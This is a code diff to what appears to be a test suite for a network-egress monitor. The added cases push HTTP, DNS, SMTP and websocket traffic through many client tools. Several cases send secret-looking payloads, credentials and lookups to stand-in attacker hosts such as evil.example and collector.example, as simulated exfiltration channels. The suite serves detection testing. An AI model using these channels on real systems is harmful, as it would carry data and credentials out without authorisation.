@@ -13,7 +13,7 @@ const tls = require('node:tls')
 
 const once = (emitter, event) => new Promise((resolve, reject) => { emitter.once(event, resolve); emitter.once('error', reject) })
 const program = (name, ...args) => child.execFileSync(name, args, { stdio: ['ignore', 'pipe', 'pipe'], timeout: 15000 }).toString().trim()
-const python = code => program('/usr/bin/python3', '-c', code)
+const python = code => child.execFileSync('/usr/bin/python3', ['-c', code], { stdio: ['ignore', 'pipe', 'pipe'], timeout: 15000, env: { ...process.env, PYTHONPATH: `${__dirname}/pypi` } }).toString().trim()
 const mail = async (options, message) => {
   const sent = await require('nodemailer').createTransport(options).sendMail({ from: 'app@corp.example', to: 'you@corp.example', subject: 'hello', text: 'hi', ...message })
   return sent.response
@@ -81,13 +81,36 @@ exports.cases = [
   { name: 'openssl', run: () => program('sh', '-c', 'echo | openssl s_client -connect openssl.example:443 -servername openssl.example 2>&1 | grep -m1 "Verif"'), sees: [['tls', 'openssl.example']] },
   { name: 'a server of its own at 127.0.0.1', run: async () => { const server = http.createServer((_, answer) => answer.end('mine')).listen(0, '127.0.0.1'); await once(server, 'listening'); const text = await (await fetch(`http://127.0.0.1:${server.address().port}`)).text(); server.close(); if (text !== 'mine') throw new Error('somebody else answered'); return text }, sees: [] },
   { name: 'a neighbour on its own network', run: async () => (await fetch('http://10.0.2.99/neighbour')).status, sees: [['http', '10.0.2.99/neighbour']] },
+  // From npm, the Python Package Index and Debian. What `needs` names is installed by `run`, which says what could not be.
+  { name: 'got', run: async () => (await (await import('got')).default.post('https://got.api.example/g', { body: 'got-body', throwHttpErrors: false, retry: { limit: 0 } })).statusCode, sees: [['http', 'got-body'], ['http', 'got.api.example/g']] },
+  { name: 'got with HTTP/2', run: async () => { const answer = await (await import('got')).default('https://got2.api.example/g', { http2: true, throwHttpErrors: false, retry: { limit: 0 } }); return `HTTP/${answer.httpVersion} ${answer.statusCode}` }, sees: [['http', 'got2.api.example/g']] },
+  { name: 'requests', needs: 'pypi', run: () => python('import requests; print(requests.post("https://requests.api.example/r", data="requests-body").status_code)'), sees: [['http', 'requests-body'], ['http', 'requests.api.example/r']] },
+  { name: 'httpx with HTTP/2', needs: 'pypi', run: () => { const said = python('import httpx; a = httpx.Client(http2=True).post("https://httpx.api.example/h", content="httpx-body"); print(a.http_version, a.status_code)'); if (!said.startsWith('HTTP/2 ')) throw new Error(said); return said }, sees: [['http', 'httpx-body'], ['http', 'httpx.api.example/h']] },
+  { name: 'aiohttp', needs: 'pypi', run: () => python('import aiohttp, asyncio\nasync def main():\n  async with aiohttp.ClientSession() as s:\n    async with s.put("https://aiohttp.api.example/a", data=b"aiohttp-body") as a:\n      print(a.status)\nasyncio.run(main())'), sees: [['http', 'aiohttp-body'], ['http', 'aiohttp.api.example/a']] },
+  { name: 'aiosmtplib with STARTTLS', needs: 'pypi', run: () => python('import aiosmtplib, asyncio\nfrom email.message import EmailMessage\nm = EmailMessage(); m["From"] = "app@corp.example"; m["To"] = "you@corp.example"; m["Subject"] = "s"; m.set_content("hi")\nprint(asyncio.run(aiosmtplib.send(m, recipients=["aio@collector.example"], hostname="aio.corp.example", port=587, start_tls=True))[1])'), sees: [['smtp', 'aio@collector.example']] },
+  { name: 'aiosmtplib with implicit TLS', needs: 'pypi', run: () => python('import aiosmtplib, asyncio\nprint(asyncio.run(aiosmtplib.send("Subject: s\\n\\nhi", sender="app@corp.example", recipients=["aio465@collector.example"], hostname="aio465.corp.example", port=465, use_tls=True))[1])'), sees: [['smtp', 'aio465@collector.example']] },
+  { name: 'dnspython over UDP, TCP and TLS', needs: 'pypi', run: () => python('import dns.message, dns.query\nfor way, name in ((dns.query.udp, "dpudp"), (dns.query.tcp, "dptcp")):\n  way(dns.message.make_query(name + ".evil.example", "TXT"), "198.51.100.54", timeout=5)\na = dns.query.tls(dns.message.make_query("dptls.evil.example", "MX"), "198.51.100.54", timeout=5, server_hostname="dot.resolver.example")\nprint(a.rcode())'), sees: [['dns', 'dpudp.evil.example'], ['dns', 'dptcp.evil.example'], ['dns', 'dptls.evil.example']] },
+  { name: 'dnspython over HTTPS', needs: 'pypi', run: () => python('import dns.message, dns.query\nprint(dns.query.https(dns.message.make_query("dphttps.evil.example", "A"), "https://doh.resolver.example/dns-query", timeout=5, bootstrap_address="198.51.100.55", http_version=dns.query.HTTPVersion.H2).rcode())'), sees: [['dns', 'dphttps.evil.example']] },
+  { name: 'websockets', needs: 'pypi', run: () => python('from websockets.sync.client import connect\nwith connect("wss://websockets.evil.example/p") as s:\n  s.send("py-ws-secret"); s.send(b"\\x00py-ws-bytes")\nprint("closed")'), sees: [['websocket', 'py-ws-secret'], ['websocket', 'py-ws-bytes']] },
+  { name: 'swaks with STARTTLS', needs: 'swaks', run: () => program('swaks', '--silent', '2', '--server', 'swaks.corp.example', '--port', '587', '--tls', '--from', 'app@corp.example', '--to', 'swaks@collector.example', '--body', 'hi') || 'sent', sees: [['smtp', 'swaks@collector.example']] },
+  { name: 'swaks with a pipeline and credentials', refused: true, needs: 'swaks', run: () => program('swaks', '--server', 'swaksauth.corp.example', '--port', '25', '--pipeline', '--auth', 'PLAIN', '--auth-user', 'swaks-user', '--auth-password', 'swaks-secret', '--from', 'app@corp.example', '--to', 'swaks@corp.example'), sees: [['smtp_auth', 'swaks-secret']] },
+  { name: 'dig at a server of its own', needs: 'dig', run: () => program('dig', '@198.51.100.56', '+short', '+tries=1', 'dig.evil.example', 'TXT') || 'answered', sees: [['dns', 'dig.evil.example'], ['dns', '198.51.100.56']] },
+  { name: 'dig over TCP', needs: 'dig', run: () => program('dig', '+tcp', '+tries=1', 'digtcp.evil.example', 'MX').match(/status: \w+/)[0], sees: [['dns', 'digtcp.evil.example']] },
+  { name: 'dig over TLS', needs: 'dig', run: () => program('dig', '@198.51.100.57', '+tls', '+tries=1', 'digtls.evil.example', 'A').match(/status: \w+/)[0], sees: [['dns', 'digtls.evil.example']] },
+  { name: 'dig over HTTPS', needs: 'dig', run: () => program('dig', '@198.51.100.58', '+https', '+tries=1', 'dighttps.evil.example', 'A').match(/status: \w+/)[0], sees: [['dns', 'dighttps.evil.example']] },
+  { name: 'wget', needs: 'wget', run: () => program('wget', '-q', '-t', '1', '-T', '9', '-O', '/dev/null', '--post-data', 'wget-body', '--content-on-error', '--server-response', 'https://wget.api.example/w') || 'answered', tolerant: true, sees: [['http', 'wget-body'], ['http', 'wget.api.example/w']] },
+  { name: 'msmtp', needs: 'msmtp', run: () => child.execFileSync('msmtp', ['--host=msmtp.corp.example', '--port=587', '--tls=on', '--tls-starttls=on', '--auth=off', '--from=app@corp.example', 'msmtp@collector.example'], { input: 'Subject: m\n\nhi\n', timeout: 15000 }).toString() || 'sent', sees: [['smtp', 'msmtp@collector.example']] },
 ]
+
+// What this machine lacks.
+exports.without = (process.env.WITHOUT || '').split(',')
 
 const patience = (work, seconds) => Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error(`nothing after ${seconds} s`)), seconds * 1000))])
 
 const main = async () => {
   for (const it of exports.cases) {
     let word, detail
+    if (exports.without.includes(it.needs)) { console.log('SKIP', it.name); continue }
     try {
       detail = await patience(it.run(), 12)
       word = it.refused ? 'FAIL' : 'PASS'
